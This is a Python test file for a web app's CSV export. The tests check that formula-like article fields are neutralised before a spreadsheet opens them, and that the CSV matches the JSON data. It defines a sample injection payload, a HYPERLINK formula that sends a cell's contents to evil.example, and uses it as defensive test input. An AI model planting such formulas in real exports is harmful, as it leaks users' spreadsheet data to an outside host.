"""CSV that a spreadsheet opens without running what an article holds."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from sayso.exports.cells import ACTING, RUN_BY_SPREADSHEETS
from tests.night import NIGHT, article
from tests.web.rooms import client_of, crawl, data, ledger_of, room_of

EVIL = '=HYPERLINK("http://evil.example?"&A1,"open")'


def rows(table: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table, newline="")))


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[TestClient]:
    """A night in which every field begins like a formula."""
    made = [article(f"=id{at}", f"{EVIL}\n\n=1+1 is not two, Ada Quill said.\n\n{one.text}", f"@{EVIL}", "19:42")
            for at, one in enumerate(NIGHT)]  # fmt: skip
    with client_of(room_of(ledger_of(tmp_path / "night.db", *made))) as client:
        yield client


def test_no_table_of_a_hostile_ledger_holds_a_formula(evil: TestClient) -> None:
    seen = 0
    for address, got, _ in crawl(evil, "/"):
        if address.startswith("/api/") and "format=csv" in address:
            assert isinstance(got, bytes)
            assert not ACTING.search(got.decode())
            for row in rows(got.decode()):
                words = (cell for cell in row if not cell.lstrip("-").isdecimal())
                assert not [cell for cell in words if cell.startswith(RUN_BY_SPREADSHEETS)]
            seen += 1
    assert seen > 20


def test_a_table_has_the_rows_of_its_json(night: TestClient) -> None:
    story = data(night, "/L/night/" + data(night, "/L/night/")["stories"][0]["link"])
    table = rows(night.get(f"/api/L/night/{story['link']}?format=csv").text)
    assert [row[0] for row in table[1:]] == [str(point["number"]) for point in story["points"]]
    point = story["points"][0]
    claims = rows(night.get(f"/api/L/night/{point['link']}?format=csv").text)[1:]
    assert [row[-1] for row in claims] == [" … ".join(claim["words"]) for claim in point["claims"]]
    edges = rows(night.get(f"/api/L/night/{story['echoes']}?format=csv").text)[1:]
    assert [row[0] for row in edges] == [edge["child"] for edge in story["edges"]]


def test_truth_is_written_as_in_json(night: TestClient) -> None:
    point = data(night, "/L/night/" + data(night, "/L/night/")["stories"][0]["link"])["points"][0]
    columns, *claims = rows(night.get(f"/api/L/night/{point['link']}?format=csv").text)
    hedged = columns.index("hedged")
    assert [row[hedged] for row in claims] == [str(claim["hedged"]).lower() for claim in point["claims"]]


def test_a_table_says_what_it_is(night: TestClient) -> None:
    answer = night.get("/api/L/night/?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"
